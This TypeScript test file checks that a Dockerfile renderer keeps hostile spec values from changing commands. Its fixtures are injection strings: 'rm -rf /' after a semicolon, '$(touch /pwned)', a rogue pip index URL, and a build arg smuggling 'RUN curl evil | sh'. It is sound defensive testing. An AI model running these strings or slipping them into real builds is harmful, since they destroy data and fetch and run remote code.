import { describe, expect, it } from "vitest";
import type { RunStep } from "../../../src/plan/build-plan.js";
import { planBuild } from "../../../src/plan/plan-build.js";
import { renderDockerfile } from "../../../src/render/dockerfile.js";
import { baseSpec } from "../plan/spec-fixtures.js";
import { EXPANDED, parseRunLine, processWord } from "./docker-parser-model.js";

const EVIL_PACKAGE = "libfoo; rm -rf / #";
const EVIL_VALUE = `it's "quoted" $(id) \`id\` \${HOME} $PATH \\ end`;
const EVIL_REQUIREMENT = "requests; python_version>'3' $(touch /pwned)";
const EVIL_PATH = "my dir/it's $HOME";
/** What a --mount value can hold and still read the same in every BuildKit (see mountFlag). */
const EVIL_MOUNT_PATH = "my dir/a,b=c;d|e&f";

const hostileSpec = baseSpec({
  buildDeps: [EVIL_PACKAGE, "--allow-unauthenticated"],
  systemDeps: ["-oAPT::Get::AllowUnauthenticated=true"],
  env: [["EVIL", "\\$literal-${ARG}"]],
  labels: [["com.example.evil", EVIL_VALUE.replace(/\$/g, "\\$")]],
  dependencies: [
    { kind: "index", requirement: EVIL_REQUIREMENT },
    { kind: "index", requirement: "--index-url=https://evil.example/simple" },
    { kind: "local", path: EVIL_MOUNT_PATH },
  ],
  project: { kind: "scripts", path: EVIL_PATH, main: "main.py" },
  copyFiles: [{ src: EVIL_PATH, dst: "/opt/it's here/" }],
  workdir: "/srv/my $app",
});
const plan = planBuild(hostileSpec, { buildArgs: { ARG: EVIL_VALUE } });
const dockerfile = renderDockerfile(plan);
const lines = dockerfile.split("\n");

describe("hostile values cannot change a command", () => {
  it("apt packages are positional arguments after '--' of a fixed script", () => {
    const builderApt = plan.stages[0]!.steps[0] as RunStep;
    expect(builderApt.argv.slice(3)).toEqual(["sh", EVIL_PACKAGE, "--allow-unauthenticated"]);
    expect(builderApt.argv[2]).toMatch(/apt-get install -y --no-install-recommends -- "\$@"$/);
    const benign = planBuild(baseSpec({ buildDeps: ["gcc"] }), { buildArgs: {} }).stages[0]!
      .steps[0] as RunStep;
    expect(builderApt.argv[2]).toBe(benign.argv[2]);
  });

  it("requirements follow pip's '--', so none can act as an option", () => {
    const dep = plan.stages[0]!.steps.find(
      (s) => s.kind === "run" && s.description.startsWith("install dep"),
    );
    const argv = (dep as RunStep).argv;
    const separator = argv.indexOf("--");
    expect(argv.slice(separator + 1)).toEqual([
      EVIL_REQUIREMENT,
      "--index-url=https://evil.example/simple",
      `/pyfront/context/${EVIL_MOUNT_PATH}`,
    ]);
  });

  it("every RUN line parses back to exactly the plan's argv and mounts", () => {
    const planRuns = plan.stages.flatMap((s) =>
      s.steps.filter((step): step is RunStep => step.kind === "run"),
    );
    const runLines = lines.filter((l) => l.startsWith("RUN "));
    expect(runLines).toHaveLength(planRuns.length);
    runLines.forEach((line, i) => {
      const parsed = parseRunLine(line);
      const step = planRuns[i]!;
      const env = step.env.map((v) => `${v.name}=${v.value}`);
      expect(parsed.argv).toEqual(env.length > 0 ? ["env", ...env, ...step.argv] : step.argv);
      expect(parsed.mounts).toHaveLength(step.mounts.length);
    });
    const bind = lines
      .map((l) => (l.startsWith("RUN ") ? parseRunLine(l) : undefined))
      .find((r) => r?.mounts.some((m) => m[0] === "type=bind"));
    expect(bind!.mounts.find((m) => m[0] === "type=bind")).toEqual([
      "type=bind",
      `source=${EVIL_MOUNT_PATH}`,
      `target=/pyfront/context/${EVIL_MOUNT_PATH}`,
      "rw=true",
    ]);
  });

  it("ENV and LABEL values come out literally, with no expansion", () => {
    const envLine = lines.filter((l) => l.startsWith("ENV EVIL=")).at(-1)!;
    expect(processWord(envLine.slice("ENV EVIL=".length))).toBe(`$literal-${EVIL_VALUE}`);
    const labelLine = lines.find((l) => l.startsWith('LABEL "com.example.evil"='))!;
    const value = processWord(labelLine.slice('LABEL "com.example.evil"='.length));
    expect(value).toBe(EVIL_VALUE);
    expect(value).not.toContain(EXPANDED);
  });

  it("paths in COPY and WORKDIR come out literally", () => {
    const copyLine = lines.find((l) => l.startsWith("COPY [") && l.includes("/opt/it"))!;
    const words = (JSON.parse(copyLine.slice("COPY ".length)) as string[]).map(processWord);
    expect(words).toEqual([EVIL_PATH, "/opt/it's here/"]);
    const workdir = lines.filter((l) => l.startsWith("WORKDIR ")).at(-1)!;
    expect(processWord(workdir.slice("WORKDIR ".length))).toBe("/srv/my $app");
  });

  it("no value adds an instruction", () => {
    const instructions = lines.filter((l) => l !== "" && !l.startsWith("#")).map((l) => l.split(" ")[0]);
    const expected = [
      "FROM",
      "USER",
      "RUN",
      "ENV",
      "ENV",
      "ENV",
      "RUN",
      "ENV",
      "WORKDIR",
      "RUN",
      "RUN",
      "RUN",
      "COPY",
      "RUN",
    ];
    expect(instructions.slice(0, expected.length)).toEqual(expected);
    expect(instructions.filter((i) => i === "FROM")).toHaveLength(2);
  });

  it("a line break smuggled in through a build arg is refused", () => {
    expect(() =>
      planBuild(baseSpec({ env: [["X", "${ARG}"]] }), { buildArgs: { ARG: "x\nRUN curl evil | sh" } }),
    ).toThrow(/line break/);
  });

  it("the renderer refuses an image reference that is not one", () => {
    const evil = {
      ...plan,
      stages: [{ ...plan.stages[0]!, base: { kind: "image" as const, ref: "python AS x\nRUN id" } }],
    };
    expect(() => renderDockerfile(evil)).toThrow(/image reference/);
  });
});
